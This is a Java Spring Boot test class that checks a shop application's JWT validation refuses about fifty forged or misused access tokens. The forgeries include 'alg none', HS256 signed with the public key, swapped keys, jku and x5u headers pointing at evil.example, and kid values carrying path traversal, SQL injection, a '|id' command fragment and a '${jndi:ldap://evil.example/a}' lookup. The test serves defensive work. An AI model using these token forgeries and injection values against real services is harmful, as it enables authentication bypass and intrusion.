package dev.plinth.security.token.autoconfigure;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.ECDHEncrypter;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import dev.plinth.security.ApiClient;
import dev.plinth.security.ApiClient.Answer;
import dev.plinth.security.ShopApplication;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.ExtendWith;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.ActiveProfiles;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests that forged and misused tokens are refused by a running application.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT, classes = ShopApplication.class,
		properties = { "spring.application.name=shop", "plinth.security.store=memory",
				"plinth.security.roles.admin.permissions=users:delete,orders:read",
				"plinth.security.roles.user.permissions=orders:create", "logging.level.dev.plinth=debug",
				"logging.level.org.springframework.security=trace", "server.max-http-request-header-size=64KB" })
@ActiveProfiles("test")
@ExtendWith(OutputCaptureExtension.class)
class AttackTests {

	private final ApiClient client;

	private final ECKey key;

	@Autowired
	private ShopApplication.Users users;

	AttackTests(@LocalServerPort int port, @Autowired SigningKeys keys) {
		this.client = new ApiClient(port);
		this.key = (ECKey) keys.signingKey();
	}

	@Test
	void theTokenThatTheOthersAreMadeOfIsAccepted() throws Exception {
		assertThat(this.client.withToken(signed(header().build(), claims().build())).get("/api/v1/private").status())
			.isEqualTo(200);
	}

	@TestFactory
	Stream<DynamicTest> refuses(CapturedOutput output) throws Exception {
		Map<String, Attack> attacks = attacks();
		assertThat(attacks).hasSizeGreaterThanOrEqualTo(40);
		return attacks.entrySet()
			.stream()
			.map((entry) -> DynamicTest.dynamicTest(entry.getKey(), () -> check(entry.getValue(), output)));
	}

	private void check(Attack attack, CapturedOutput output) {
		for (int i = 0; i < 2; i++) {
			Answer answer = this.client.withToken(attack.token).get("/api/v1/private");
			assertThat(answer.status()).isEqualTo(401);
			assertThat(answer.code()).isEqualTo(attack.code);
			assertThat(answer.header("WWW-Authenticate")).isEqualTo("Bearer error=\"invalid_token\"");
		}
		if (attack.token.length() > 20) {
			assertThat(output.getAll()).doesNotContain(attack.token);
		}
	}

	private Map<String, Attack> attacks() throws Exception {
		Instant now = Instant.now();
		String good = signed(header().build(), claims().build());
		String[] parts = good.split("\\.");
		Map<String, Attack> attacks = new LinkedHashMap<>();

		// the algorithm
		attacks.put("alg none", invalid(new PlainJWT(claims().build()).serialize()));
		attacks.put("alg none with header of an access token",
				invalid(encode("{\"alg\":\"none\",\"typ\":\"at+jwt\",\"kid\":\"" + this.key.getKeyID() + "\"}") + "."
						+ parts[1] + "."));
		attacks.put("alg None", invalid(encode("{\"alg\":\"None\",\"typ\":\"at+jwt\"}") + "." + parts[1] + ".x"));
		attacks.put("alg none keeping the signature",
				invalid(encode("{\"alg\":\"none\",\"typ\":\"at+jwt\"}") + "." + parts[1] + "." + parts[2]));
		attacks.put("no alg", invalid(encode("{\"typ\":\"at+jwt\"}") + "." + parts[1] + "." + parts[2]));
		attacks.put("HS256 with the public key as secret", invalid(hmac(this.key.toECPublicKey().getEncoded())));
		attacks.put("HS256 with the public key in PEM as secret",
				invalid(hmac(KeyDirectoryTests.pem("PUBLIC KEY", this.key.toECPublicKey().getEncoded())
					.getBytes(StandardCharsets.UTF_8))));
		attacks.put("HS256 with the public JWK as secret",
				invalid(hmac(this.key.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8))));
		attacks.put("HS256 with an empty-looking secret", invalid(hmac(new byte[32])));
		attacks.put("RS256 with the id of the EC key", invalid(rsa()));
		ECKey p384 = new ECKeyGenerator(Curve.P_384).keyID(this.key.getKeyID()).generate();
		attacks.put("ES384 with the id of the ES256 key",
				invalid(signed(new JWSHeader.Builder(JWSAlgorithm.ES384).type(new JOSEObjectType("at+jwt"))
					.keyID(this.key.getKeyID())
					.build(), claims().build(), new ECDSASigner(p384))));

		// the key
		ECKey other = new ECKeyGenerator(Curve.P_256).keyID(this.key.getKeyID()).generate();
		attacks.put("another key of the same type and id",
				invalid(signed(header().build(), claims().build(), new ECDSASigner(other))));
		attacks.put("another key of another id",
				invalid(signed(header().keyID("other").build(), claims().build(), new ECDSASigner(other))));
		for (String kid : List.of("../../../../dev/null", "' OR '1'='1", "https://evil.example/key.pem",
				"../keys/" + this.key.getKeyID(), this.key.getKeyID() + "\u0000",
				this.key.getKeyID().toUpperCase(Locale.ROOT) + " ", "", "*", "|id", "${jndi:ldap://evil.example/a}")) {
			attacks.put("kid " + kid,
					invalid(signed(header().keyID(kid).build(), claims().build(), new ECDSASigner(this.key))));
		}
		attacks.put("no kid", invalid(signed(header().keyID(null).build(), claims().build())));
		attacks.put("embedded jwk of the attacker",
				invalid(signed(header().jwk(other.toPublicJWK()).build(), claims().build(), new ECDSASigner(other))));
		attacks.put("embedded jwk of our own",
				invalid(signed(header().jwk(this.key.toPublicJWK()).build(), claims().build())));
		attacks.put("jku", invalid(signed(header().jwkURL(URI.create("https://evil.example/jwks.json")).build(),
				claims().build(), new ECDSASigner(other))));
		attacks.put("jku with our key", invalid(
				signed(header().jwkURL(URI.create("https://evil.example/jwks.json")).build(), claims().build())));
		attacks.put("x5u", invalid(
				signed(header().x509CertURL(URI.create("https://evil.example/cert")).build(), claims().build())));
		attacks.put("x5c",
				invalid(signed(header().x509CertChain(List.of(new com.nimbusds.jose.util.Base64("MIIB"))).build(),
						claims().build())));
		attacks.put("x5t#S256",
				invalid(signed(header().x509CertSHA256Thumbprint(new Base64URL("abc")).build(), claims().build())));

		// the header
		attacks.put("no typ", invalid(signed(header().type(null).build(), claims().build())));
		attacks.put("typ JWT", invalid(signed(header().type(JOSEObjectType.JWT).build(), claims().build())));
		attacks.put("ID token", invalid(signed(header().type(JOSEObjectType.JWT).build(),
				claims().claim("nonce", "n").claim("at_hash", "h").build())));
		attacks.put("logout token",
				invalid(signed(header().type(new JOSEObjectType("logout+jwt")).build(), claims().build())));
		attacks.put("critical header", invalid(
				signed(header().criticalParams(Set.of("evil")).customParam("evil", true).build(), claims().build())));
		attacks.put("unencoded payload",
				invalid(signed(header().customParam("b64x", false).build(), claims().build())));
		attacks.put("unknown header parameter",
				invalid(signed(header().customParam("x", "y").build(), claims().build())));
		attacks.put("unicode in the header",
				invalid(signed(header().keyID("ключ\u202e\ud83d\ude00").build(), claims().build())));
		attacks.put("nested JWT", invalid(signed(header().contentType("JWT").build(), claims().build())));
		attacks.put("duplicate header parameter",
				invalid(rawSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"other\",\"kid\":\""
						+ this.key.getKeyID() + "\"}",
						new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8))));

		// the payload
		attacks.put("tampered payload", invalid(parts[0] + "." + encode(
				new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8).replace("\"2\"", "\"1\""))
				+ "." + parts[2]));
		attacks.put("tampered signature", invalid(parts[0] + "." + parts[1] + "." + flip(parts[2])));
		attacks.put("empty signature", invalid(parts[0] + "." + parts[1] + "."));
		attacks.put("signature of zeros", invalid(parts[0] + "." + parts[1] + "."
				+ Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64])));
		attacks.put("signature in DER", invalid(parts[0] + "." + parts[1] + "." + Base64URL
			.encode(com.nimbusds.jose.crypto.impl.ECDSA.transcodeSignatureToDER(new Base64URL(parts[2]).decode()))));
		attacks.put("duplicate claim",
				invalid(rawSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"" + this.key.getKeyID() + "\"}",
						new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8).replaceFirst("\\{",
								"{\"sub\":\"1\","))));
		attacks.put("payload that is no object", invalid(
				rawSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"" + this.key.getKeyID() + "\"}", "[]")));
		attacks.put("payload that is no JSON", invalid(
				rawSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"" + this.key.getKeyID() + "\"}", "x")));

		// the claims
		attacks.put("another audience", invalid(signed(header().build(), claims().audience("other").build())));
		attacks.put("no audience", invalid(signed(header().build(), claims().audience((String) null).build())));
		attacks.put("another issuer", invalid(signed(header().build(), claims().issuer("other").build())));
		attacks.put("issuer with a suffix", invalid(signed(header().build(), claims().issuer("shop.evil").build())));
		attacks.put("no issuer", invalid(signed(header().build(), claims().issuer(null).build())));
		attacks.put("no subject", invalid(signed(header().build(), claims().subject(null).build())));
		attacks.put("no id", invalid(signed(header().build(), claims().jwtID(null).build())));
		attacks.put("no issue time",
				invalid(signed(header().build(), claims().issueTime(null).expirationTime(null).build())));
		attacks.put("no expiry",
				new Attack(signed(header().build(), claims().expirationTime(null).build()), "invalid-token"));
		attacks.put("expired",
				new Attack(signed(header().build(),
						claims().issueTime(Date.from(now.minusSeconds(2000)))
							.expirationTime(Date.from(now.minusSeconds(31)))
							.build()),
						"token-expired"));
		attacks.put("not valid yet",
				invalid(signed(header().build(), claims().notBeforeTime(Date.from(now.plusSeconds(120))).build())));
		attacks.put("issued in the future",
				invalid(signed(header().build(), claims().issueTime(Date.from(now.plusSeconds(120))).build())));
		attacks.put("expiry that is no number",
				invalid(rawSigned("{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"" + this.key.getKeyID() + "\"}",
						new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
							.replaceFirst("\"exp\":\\d+", "\"exp\":\"never\""))));

		// things that are no access tokens
		Answer login = this.client.login("bob@example.com", "Passw0rd-bob");
		attacks.put("refresh token", invalid(login.read("$.data.refreshToken")));
		attacks.put("JWE", invalid(encrypted()));
		attacks.put("huge token", invalid(signed(header().build(), claims().claim("x", "x".repeat(20_000)).build())));
		attacks.put("text", invalid("abc"));
		attacks.put("dots", invalid(".."));
		attacks.put("four parts", invalid(good + ".x"));
		attacks.put("padded signature", invalid(parts[0] + "." + parts[1] + "." + parts[2] + "="));

		// a token that was right
		Answer ended = this.client.login("bob@example.com", "Passw0rd-bob");
		this.client.as(ended).post("/api/v1/auth/logout", "");
		attacks.put("after logout", invalid(ended.read("$.data.accessToken")));
		this.users.add("9", "Eve", "eve@example.com", this.users.get("bob@example.com").password(), "user");
		Answer deleted = this.client.login("eve@example.com", "Passw0rd-bob");
		this.client.as(this.client.login("ada@example.com", "Passw0rd-ada")).delete("/api/v1/users/eve@example.com");
		attacks.put("deleted user", invalid(deleted.read("$.data.accessToken")));
		return attacks;
	}

	@Test
	void accessTokenIsNoRefreshToken() {
		Answer login = this.client.login("bob@example.com", "Passw0rd-bob");
		Answer answer = this.client.refresh(login.read("$.data.accessToken"));
		assertThat(answer.status()).isIn(400, 401);
		assertThat(answer.code()).isIn("invalid-refresh-token", "validation-failed");
	}

	@Test
	void malformedAuthorizationHeaderIsRefused() {
		List<Answer> answers = new ArrayList<>();
		for (String value : List.of("Bearer", "Bearer ", "Bearer a b", "Bearer ü", "Bearer \"x\"")) {
			answers.add(this.client.withHeader("Authorization", value).get("/api/v1/private"));
		}
		assertThat(answers).allSatisfy((answer) -> assertThat(answer.status()).isEqualTo(401));
	}

	@Test
	void tokenInTheQueryIsIgnored() throws Exception {
		String token = signed(header().build(), claims().build());
		assertThat(this.client.get("/api/v1/private?access_token=" + token).status()).isEqualTo(401);
	}

	@Test
	void expiryWithinTheToleratedDifferenceIsAccepted() throws Exception {
		Instant now = Instant.now();
		String token = signed(header().build(),
				claims().issueTime(Date.from(now.minus(Duration.ofMinutes(10))))
					.expirationTime(Date.from(now.minusSeconds(10)))
					.build());
		assertThat(this.client.withToken(token).get("/api/v1/private").status()).isEqualTo(200);
	}

	private static Attack invalid(String token) {
		return new Attack(token, "invalid-token");
	}

	private JWSHeader.Builder header() {
		return new JWSHeader.Builder(JWSAlgorithm.ES256).type(new JOSEObjectType("at+jwt")).keyID(this.key.getKeyID());
	}

	private static JWTClaimsSet.Builder claims() {
		Instant now = Instant.now();
		return new JWTClaimsSet.Builder().issuer("shop")
			.audience("shop")
			.subject("2")
			.jwtID("id-" + System.nanoTime())
			.issueTime(Date.from(now))
			.expirationTime(Date.from(now.plusSeconds(900)))
			.claim("roles", List.of("admin"));
	}

	private String signed(JWSHeader header, JWTClaimsSet claims) throws Exception {
		return signed(header, claims, new ECDSASigner(this.key));
	}

	private static String signed(JWSHeader header, JWTClaimsSet claims, JWSSigner signer) throws Exception {
		if (signer instanceof ECDSASigner ecdsa && header.getCriticalParams() != null) {
			return rawSigned(header.toString(), claims.toString(), ecdsa);
		}
		SignedJWT jwt = new SignedJWT(header, claims);
		jwt.sign(signer);
		return jwt.serialize();
	}

	private String rawSigned(String header, String payload) throws Exception {
		return rawSigned(header, payload, new ECDSASigner(this.key));
	}

	private static String rawSigned(String header, String payload, ECDSASigner signer) throws Exception {
		String input = encode(header) + "." + encode(payload);
		Base64URL signature = signer.sign(new JWSHeader(JWSAlgorithm.ES256), input.getBytes(StandardCharsets.US_ASCII));
		return input + "." + signature;
	}

	private String hmac(byte[] secret) throws Exception {
		return signed(new JWSHeader.Builder(JWSAlgorithm.HS256).type(new JOSEObjectType("at+jwt"))
			.keyID(this.key.getKeyID())
			.build(), claims().build(), new MACSigner(secret));
	}

	private String rsa() throws Exception {
		KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
		generator.initialize(2048);
		KeyPair pair = generator.generateKeyPair();
		assertThat(pair.getPublic()).isInstanceOf(RSAPublicKey.class);
		return signed(new JWSHeader.Builder(JWSAlgorithm.RS256).type(new JOSEObjectType("at+jwt"))
			.keyID(this.key.getKeyID())
			.build(), claims().build(), new RSASSASigner(pair.getPrivate()));
	}

	private String encrypted() throws Exception {
		ECPublicKey publicKey = this.key.toECPublicKey();
		JWEObject jwe = new JWEObject(
				new JWEHeader.Builder(JWEAlgorithm.ECDH_ES, EncryptionMethod.A256GCM).type(new JOSEObjectType("at+jwt"))
					.keyID(this.key.getKeyID())
					.build(),
				new Payload(claims().build().toJSONObject()));
		jwe.encrypt(new ECDHEncrypter(publicKey));
		return jwe.serialize();
	}

	private static String flip(String part) {
		return ((part.charAt(0) == 'A') ? 'B' : 'A') + part.substring(1);
	}

	private static String encode(String text) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	private record Attack(String token, String code) {
	}

}
